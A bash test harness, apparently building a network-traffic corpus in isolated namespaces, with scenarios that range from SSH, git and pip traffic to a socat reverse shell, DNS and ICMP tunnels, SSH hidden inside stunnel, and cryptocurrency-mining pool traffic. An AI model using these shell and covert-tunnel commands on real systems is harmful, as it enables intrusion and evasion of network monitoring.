# The scenarios of `make`, a function each: it returns when the agent has done
# what the name says. Servers are ended by `make`.
# shellcheck shell=bash disable=SC2154

# An sshd of the server's that takes one key and nothing else.
sshd() { # OPTIONS…
    local dir=$work/ssh
    mkdir -p "$dir" /run/sshd
    [ -e "$dir/key" ] || ssh-keygen -q -t ed25519 -N '' -f "$dir/key"
    [ -e "$dir/host" ] || ssh-keygen -q -t ed25519 -N '' -f "$dir/host"
    cp "$dir/key.pub" "$dir/authorized"
    serve 22 /usr/sbin/sshd -D -e -f /dev/null -p 22 -h "$dir/host" -o UsePAM=no \
        -o "AuthorizedKeysFile=$dir/authorized" -o StrictModes=no -o PermitRootLogin=yes \
        -o Subsystem='sftp internal-sftp' "$@"
}
ssh_options() {
    echo -F none -i "$work/ssh/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o LogLevel=ERROR -o ExitOnForwardFailure=yes
}
as_ssh() { # ARGUMENTS…
    # shellcheck disable=SC2046
    in_agent ssh $(ssh_options) "$@"
}
# A web server inside the agent, as a tunnel's target.
inside_web() {
    mkdir -p "$work/web"
    head -c 3000 /dev/zero | tr '\0' x >"$work/web/index.html"
    serve_inside 8000 python3 -m http.server --protocol HTTP/1.1 --bind 127.0.0.1 --directory "$work/web" 8000
}
# Visitors from outside, through port 9000 of the server's loopback.
visit() {
    listens corpus-server 9000
    local url=http://127.0.0.1:9000/index.html
    # Several on one connection: one exchange of an unknown process may be chance.
    for _ in 1 2 3; do
        in_server curl -sS --rate 600/m -o /dev/null $url -o /dev/null $url -o /dev/null $url
    done
}

reverse_with() { # CIPHER
    sshd
    inside_web
    as_ssh -N -c "$1" -R 9000:127.0.0.1:8000 "root@$server" &
    visit
}
ssh_reverse_chacha20() { reverse_with chacha20-poly1305@openssh.com; }
ssh_reverse_aes128_gcm() { reverse_with aes128-gcm@openssh.com; }
ssh_reverse_aes256_ctr() { reverse_with aes256-ctr; }
ssh_command() {
    sshd
    as_ssh "root@$server" uname -a >/dev/null
}
ssh_local_forward() {
    sshd
    mkdir -p "$work/web"
    head -c 3000 /dev/zero | tr '\0' x >"$work/web/index.html"
    serve 8000 python3 -m http.server --protocol HTTP/1.1 --bind 127.0.0.1 --directory "$work/web" 8000
    as_ssh -N -L 9000:127.0.0.1:8000 "root@$server" &
    listens corpus-agent 9000
    local url=http://127.0.0.1:9000/index.html
    in_agent curl -sS --rate 600/m -o /dev/null $url -o /dev/null $url -o /dev/null $url
}
autossh_reverse() {
    sshd
    inside_web
    # shellcheck disable=SC2046
    in_agent env AUTOSSH_GATETIME=0 autossh -M 0 $(ssh_options) -N -R 9000:127.0.0.1:8000 "root@$server" &
    visit
}
ssh_in_stunnel() {
    sshd
    inside_web
    local dir=$work/tls
    mkdir -p "$dir"
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$dir/key" -out "$dir/cert" -days 2 \
        -subj /CN=vpn.example.net 2>/dev/null
    cat "$dir/key" "$dir/cert" >"$dir/both"
    printf 'foreground = yes\npid =\n[s]\naccept = 443\nconnect = 127.0.0.1:22\ncert = %s\n' "$dir/both" >"$dir/server"
    printf 'foreground = yes\npid =\n[c]\nclient = yes\naccept = 127.0.0.1:2222\nconnect = %s:443\n' "$server" >"$dir/client"
    serve 443 stunnel "$dir/server"
    serve_inside 2222 stunnel "$dir/client"
    as_ssh -p 2222 -N -R 9000:127.0.0.1:8000 root@127.0.0.1 &
    visit
}
paramiko_reverse() {
    sshd
    inside_web
    serve_inside - /usr/bin/python3 "$here/paramiko_reverse.py" "$server" "$work/ssh/key"
    visit
}
sshuttle_vpn() {
    sshd
    serve 8000 python3 -m http.server --bind 127.0.0.1 --directory / 8000
    # sshuttle redirects with nft or iptables; its own listener stands in for that.
    serve_inside - sshuttle --method nft -e "ssh $(ssh_options)" -r "root@$server" 198.51.100.0/24
    sleep 3
}
socat_shell() {
    serve 4444 socat -u TCP-LISTEN:4444,reuseaddr OPEN:/dev/null
    in_agent timeout 3 socat "TCP:$server:4444" EXEC:/bin/sh,pty,stderr || true
}
microsocks_proxy() {
    serve 8000 python3 -m http.server --bind "$server" --directory "$here" 8000
    serve_inside 1080 microsocks -i "$agent" -p 1080
    for _ in 1 2 3; do
        in_server curl -sS -o /dev/null -x "socks5://$agent:1080" "http://$server:8000/"
    done
}
iodine_tunnel() {
    serve - iodined -f -P secret 10.53.0.1/24 t.example.net
    until_ok in_server ss -Hlun 'sport = :53'
    serve_inside - iodine -f -P secret -r -T NULL "$server" t.example.net
    sleep 5
}
dns2tcp_tunnel() {
    local dir=$work/dns2tcp
    mkdir -p "$dir"
    sshd
    printf 'listen = %s\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.net\nresources = ssh:127.0.0.1:22\n' "$server" >"$dir/server"
    serve - dns2tcpd -F -f "$dir/server"
    until_ok in_server ss -Hlun 'sport = :53'
    serve_inside 2222 dns2tcpc -r ssh -z d.example.net -l 2222 "$server"
    as_ssh -p 2222 root@127.0.0.1 uname -a >/dev/null
}
icmp_tunnel() {
    sshd
    serve - ptunnel-ng -l 0
    sleep 0.5
    serve_inside 2222 ptunnel-ng "-p$server" -l2222 "-r$server" -R22
    as_ssh -p 2222 root@127.0.0.1 uname -a >/dev/null
}
stratum_monero() {
    serve 3333 "$root/target/debug/pool" --listen "$server:3333"
    in_agent "$root/target/debug/miner" --pool "$server:3333" --dialect monero --shares 3 >/dev/null
}
stratum_bitcoin() {
    serve 3333 "$root/target/debug/pool" --listen "$server:3333"
    in_agent "$root/target/debug/miner" --pool "$server:3333" --dialect bitcoin --shares 3 >/dev/null
}
curl_https() {
    local dir=$work/tls
    mkdir -p "$dir"
    openssl req -x509 -newkey rsa:2048 -nodes -keyout "$dir/key" -out "$dir/cert" -days 2 \
        -subj /CN=www.example.net 2>/dev/null
    serve 443 openssl s_server -quiet -accept 443 -key "$dir/key" -cert "$dir/cert" -WWW
    in_agent curl -sSk -o /dev/null --resolve "www.example.net:443:$server" https://www.example.net/index.html || true
}
git_ssh() {
    sshd
    git init -q --bare "$work/repository.git"
    git clone -q "$work/repository.git" "$work/clone" 2>/dev/null
    (cd "$work/clone" && head -c 20000 /dev/urandom >file && git add file \
        && git -c user.name=x -c user.email=x@example.net commit -qm 'a file')
    in_agent env GIT_SSH_COMMAND="ssh $(ssh_options)" git -C "$work/clone" push -q \
        "ssh://root@$server$work/repository.git" HEAD
    in_agent env GIT_SSH_COMMAND="ssh $(ssh_options)" git clone -q \
        "ssh://root@$server$work/repository.git" "$work/other"
}
pip_install() {
    local dir=$work/pip
    mkdir -p "$dir/simple/harmless" "$dir/harmless"
    printf '[project]\nname = "harmless"\nversion = "1"\n' >"$dir/pyproject.toml"
    printf 'x = 1\n' >"$dir/harmless/__init__.py"
    (cd "$dir" && python3 -c 'import zipfile
with zipfile.ZipFile("simple/harmless/harmless-1-py3-none-any.whl", "w") as z:
    z.writestr("harmless/__init__.py", "x = 1\n")
    z.writestr("harmless-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: harmless\nVersion: 1\n")
    z.writestr("harmless-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("harmless-1.dist-info/RECORD", "")')
    serve 8000 python3 -m http.server --bind "$server" --directory "$dir" 8000
    in_agent env PIP_CONFIG_FILE=/dev/null python3 -m pip install -q --disable-pip-version-check --no-deps \
        --index-url "http://$server:8000/simple" --trusted-host "$server" --target "$dir/to" harmless
}
redis_client() {
    serve 6379 redis-server --bind "$server" --port 6379 --save '' --protected-mode no
    in_agent redis-cli -h "$server" SET key value >/dev/null
    in_agent redis-cli -h "$server" -r 5 -i 0.1 LPUSH jobs job >/dev/null
    in_agent redis-cli -h "$server" --csv LRANGE jobs 0 -1 >/dev/null
}
mcp_session() {
    serve 8000 python3 "$here/json_rpc_server.py" "$server" 8000
    in_agent python3 "$here/json_rpc_client.py" "http://$server:8000/mcp" mcp
}
ethereum_rpc() {
    serve 8545 python3 "$here/json_rpc_server.py" "$server" 8545
    in_agent python3 "$here/json_rpc_client.py" "http://$server:8545/" ethereum
}
odoo_login() {
    serve 8069 python3 "$here/json_rpc_server.py" "$server" 8069
    in_agent python3 "$here/json_rpc_client.py" "http://$server:8069/jsonrpc" odoo
}
electrum_session() {
    serve 50001 python3 "$here/electrum_server.py" "$server" 50001
    in_agent python3 "$here/electrum_client.py" "$server" 50001
}
wireguard_handshake() {
    local dir=$work/wg side
    mkdir -p "$dir"
    for side in agent server; do wg genkey | tee "$dir/$side" | wg pubkey >"$dir/$side.pub"; done
    for side in agent server; do
        ip netns exec "corpus-$side" env WG_PROCESS_FOREGROUND=1 wireguard-go -f "wg-$side" >>"$work/servers" 2>&1 &
        until_ok ip -n "corpus-$side" link show "wg-$side"
    done
    in_server wg set wg-server private-key "$dir/server" listen-port 51820 \
        peer "$(cat "$dir/agent.pub")" allowed-ips 198.51.100.1/32
    in_agent wg set wg-agent private-key "$dir/agent" \
        peer "$(cat "$dir/server.pub")" allowed-ips 198.51.100.2/32 endpoint "$server:51820"
    ip -n corpus-agent address add 198.51.100.1/24 dev wg-agent
    ip -n corpus-server address add 198.51.100.2/24 dev wg-server
    ip -n corpus-agent link set wg-agent up
    ip -n corpus-server link set wg-server up
    serve 8000 python3 -m http.server --bind 198.51.100.2 --directory "$here" 8000
    in_agent curl -sS -o /dev/null http://198.51.100.2:8000/
}
